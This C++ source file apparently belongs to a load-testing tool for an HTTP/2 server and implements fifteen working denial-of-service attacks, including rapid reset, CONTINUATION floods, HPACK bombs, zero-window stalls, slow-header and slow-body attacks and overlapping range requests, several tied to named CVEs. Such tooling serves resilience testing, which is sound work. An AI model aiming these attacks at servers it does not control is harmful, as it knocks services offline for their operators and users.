#include "perch-load/attack.h"

#include <algorithm>
#include <array>
#include <initializer_list>
#include <utility>

#include "perch/base/bytes.h"
#include "perch/http2/hpack.h"

namespace perch::load {

using http2::FrameType;
using http2::FrameWriter;
using http2::StreamId;
namespace flags = http2::flags;

namespace {

using namespace std::chrono_literals;

constexpr std::size_t kPortion = 50;  // frames of a flood that are made at a time
constexpr std::size_t kStalledStreams = 100;
constexpr std::size_t kDribbledStreams = 10;
constexpr std::uint8_t kGetFlags = flags::kEndStream | flags::kEndHeaders;

using Field = std::pair<std::string_view, std::string_view>;

std::vector<std::byte> encode(std::initializer_list<Field> fields) {
  http2::HpackEncoder encoder;
  std::vector<std::byte> block;
  encoder.begin_block(block);
  for (const auto& [name, value] : fields) {
    encoder.encode(name, value, http2::HpackEncoder::Indexing::kWithout, block);
  }
  return block;
}

// "bytes=0-,1-,2-,..."
std::string overlapping_ranges() {
  std::string value = "bytes=0-";
  for (int i = 1; i < 500; ++i) value += "," + std::to_string(i) + "-";
  return value;
}

void append(std::vector<std::byte>& out, std::span<const std::byte> bytes) {
  out.insert(out.end(), bytes.begin(), bytes.end());
}

// A frame of any type.
void frame(std::vector<std::byte>& out, FrameType type, std::uint8_t frame_flags, StreamId stream,
           std::span<const std::byte> payload) {
  std::array<std::byte, http2::kFrameHeaderBytes> header;
  http2::write_frame_header({.length = static_cast<std::uint32_t>(payload.size()),
                             .type = type,
                             .flags = frame_flags,
                             .stream_id = stream},
                            header.data());
  append(out, header);
  append(out, payload);
}

}  // namespace

std::span<const AttackKind> attack_kinds() {
  static constexpr AttackKind kKinds[] = {
      {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 0s,
       &Attack::begin_without, &Attack::rapid_reset},
      {"provoked-resets", "requests followed by what makes the server reset them (CVE-2025-8671)",
       0s, &Attack::begin_without, &Attack::provoke_resets},
      {"continuation", "a header block that never ends (CVE-2024-27316)", 0s,
       &Attack::begin_continuation, &Attack::continuations},
      {"settings", "SETTINGS, each of which must be acknowledged", 0s, &Attack::begin_without,
       &Attack::settings},
      {"ping", "PING, each of which must be answered", 0s, &Attack::begin_without, &Attack::pings},
      {"empty-data", "DATA without data", 0s, &Attack::begin_upload, &Attack::empty_data},
      {"hpack-bomb", "fields that decode to 4,000 times their size", 0s, &Attack::begin_bomb,
       &Attack::bombs},
      {"zero-window", "100 responses that may never be sent", 1s, &Attack::begin_stalled,
       &Attack::nothing, 0},
      {"dribble", "10 responses that are taken at 10 bytes a second each", 100ms,
       &Attack::begin_dribble, &Attack::dribble, 0},
      {"slow-headers", "fields of HTTP/1.1, a byte a second", 1s, &Attack::begin_slow_fields,
       &Attack::slow_fields, 0, true},
      {"slow-frame", "a HEADERS frame, a byte a second", 1s, &Attack::begin_without,
       &Attack::slow_frame},
      {"slow-body", "a request body, a byte a second", 1s, &Attack::begin_upload,
       &Attack::slow_body},
      {"priority-update", "PRIORITY_UPDATE of streams to come", 0s, &Attack::begin_without,
       &Attack::priority_updates},
      {"ranges", "requests for 500 overlapping ranges", 20ms, &Attack::begin_without,
       &Attack::ranges, http2::kLargestWindow},
      {"key-update", "KeyUpdate messages of TLS 1.3 (https only)", 0s, &Attack::begin_without,
       &Attack::nothing, http2::kDefaultWindow, false, true},
  };
  return kKinds;
}

const AttackKind* find_attack(std::string_view name) {
  const auto found = std::ranges::find(attack_kinds(), name, &AttackKind::name);
  return found == attack_kinds().end() ? nullptr : &*found;
}

Attack::Attack(const AttackKind& kind, const TargetUrl& url) : kind_(&kind), host_(url.authority) {
  const std::string ranges = overlapping_ranges();
  const Field scheme = {":scheme", url.scheme()}, authority = {":authority", url.authority},
              path = {":path", url.path};
  get_ = encode({{":method", "GET"}, scheme, authority, path});
  ranged_ = encode({{":method", "GET"}, scheme, authority, path, {"range", ranges}});
  post_ = encode({{":method", "POST"}, scheme, authority, path, {"content-length", "1000000"}});
}

StreamId Attack::next_stream() { return stream_ = stream_ == 0 ? 1 : stream_ + 2; }

void Attack::get(Output& out, std::span<const std::byte> block) {
  FrameWriter(out).headers(next_stream(), block, kGetFlags);
}

void Attack::greet(Output& out) const {
  if (kind_->http1) return;
  append(out, as_bytes(http2::kClientPreface));
  const http2::Setting settings[] = {{http2::setting::kInitialWindowSize, kind_->stream_window}};
  FrameWriter(out).settings(settings);
  // The connection's window is not what stops these attacks.
  FrameWriter(out).window_update(0, http2::kLargestWindow - http2::kDefaultWindow);
}

std::size_t Attack::nothing(Output&) { return 0; }

std::size_t Attack::rapid_reset(Output& out) {
  for (std::size_t i = 0; i < kPortion; ++i) {
    get(out, get_);
    FrameWriter(out).rst_stream(stream_, http2::ErrorCode::kCancel);
  }
  return kPortion;
}

std::size_t Attack::provoke_resets(Output& out) {
  constexpr std::byte kZero[4] = {};
  for (std::size_t i = 0; i < kPortion; ++i) {
    // Without its end, so that the request is still open when the update comes. An increment of
    // zero is a stream error (RFC 9113 section 6.9).
    FrameWriter(out).headers(next_stream(), post_, flags::kEndHeaders);
    frame(out, FrameType::kWindowUpdate, 0, stream_, kZero);
  }
  return kPortion;
}

void Attack::begin_continuation(Output& out) {
  FrameWriter(out).headers(next_stream(), get_, flags::kEndStream);
}

std::size_t Attack::continuations(Output& out) {
  const auto fragment = encode({{"a", "b"}});
  for (std::size_t i = 0; i < kPortion; ++i) {
    FrameWriter(out).continuation(stream_, fragment, false);
  }
  return kPortion;
}

std::size_t Attack::settings(Output& out) {
  for (std::size_t i = 0; i < kPortion; ++i) FrameWriter(out).settings({});
  return kPortion;
}

std::size_t Attack::pings(Output& out) {
  for (std::size_t i = 0; i < kPortion; ++i) FrameWriter(out).ping(i, false);
  return kPortion;
}

void Attack::begin_upload(Output& out) {
  FrameWriter(out).headers(next_stream(), post_, flags::kEndHeaders);
}

std::size_t Attack::empty_data(Output& out) {
  for (std::size_t i = 0; i < kPortion; ++i) FrameWriter(out).data(stream_, {}, false);
  return kPortion;
}

void Attack::begin_bomb(Output& out) {
  http2::HpackEncoder encoder;
  std::vector<std::byte> block;
  encoder.begin_block(block);
  encoder.encode("a", std::string(4000, 'x'), http2::HpackEncoder::Indexing::kIncremental, block);
  // Behind the pseudo-header fields, which a block begins with.
  block.insert(block.begin(), get_.begin(), get_.end());
  get(out, block);
}

std::size_t Attack::bombs(Output& out) {
  constexpr auto kNewestEntry = std::byte{0x80 | 62};  // RFC 7541 section 2.3.3
  std::vector<std::byte> block = get_;
  block.resize(http2::kDefaultMaxFrameSize, kNewestEntry);
  get(out, block);
  return 1;
}

void Attack::begin_stalled(Output& out) {
  for (std::size_t i = 0; i < kStalledStreams; ++i) get(out, get_);
}

void Attack::begin_dribble(Output& out) {
  for (std::size_t i = 0; i < kDribbledStreams; ++i) get(out, get_);
}

std::size_t Attack::dribble(Output& out) {
  for (StreamId stream = 1; stream <= stream_; stream += 2) {
    FrameWriter(out).window_update(stream, 1);
  }
  return kDribbledStreams;
}

std::size_t Attack::slow_frame(Output& out) {
  Output whole;
  FrameWriter(whole).headers(1, get_, kGetFlags);
  // Its last byte never comes.
  if (position_ + 1 < whole.size()) out.push_back(whole[position_++]);
  return 1;
}

std::size_t Attack::slow_body(Output& out) {
  FrameWriter(out).data(stream_, as_bytes("x"), false);
  return 1;
}

std::size_t Attack::priority_updates(Output& out) {
  constexpr auto kPriorityUpdate = static_cast<FrameType>(0x10);  // RFC 9218 section 7.1
  constexpr StreamId kStreams = 1000;                             // that are spoken of in turn
  for (std::size_t i = 0; i < kPortion; ++i) {
    position_ = (position_ + 1) % kStreams;
    const auto stream = static_cast<std::uint32_t>(1 + 2 * position_);
    std::array<std::byte, 7> payload = {std::byte{0},
                                        std::byte{0},
                                        static_cast<std::byte>(stream >> 8),
                                        static_cast<std::byte>(stream),
                                        std::byte{'u'},
                                        std::byte{'='},
                                        std::byte{'1'}};
    frame(out, kPriorityUpdate, 0, 0, payload);
  }
  return kPortion;
}

std::size_t Attack::ranges(Output& out) {
  get(out, ranged_);
  return 1;
}

void Attack::begin_slow_fields(Output& out) {
  append(out, as_bytes("GET / HTTP/1.1\r\nHost: " + host_ + "\r\nslow: "));
}

std::size_t Attack::slow_fields(Output& out) {
  append(out, as_bytes("x"));
  return 1;
}

}  // namespace perch::load
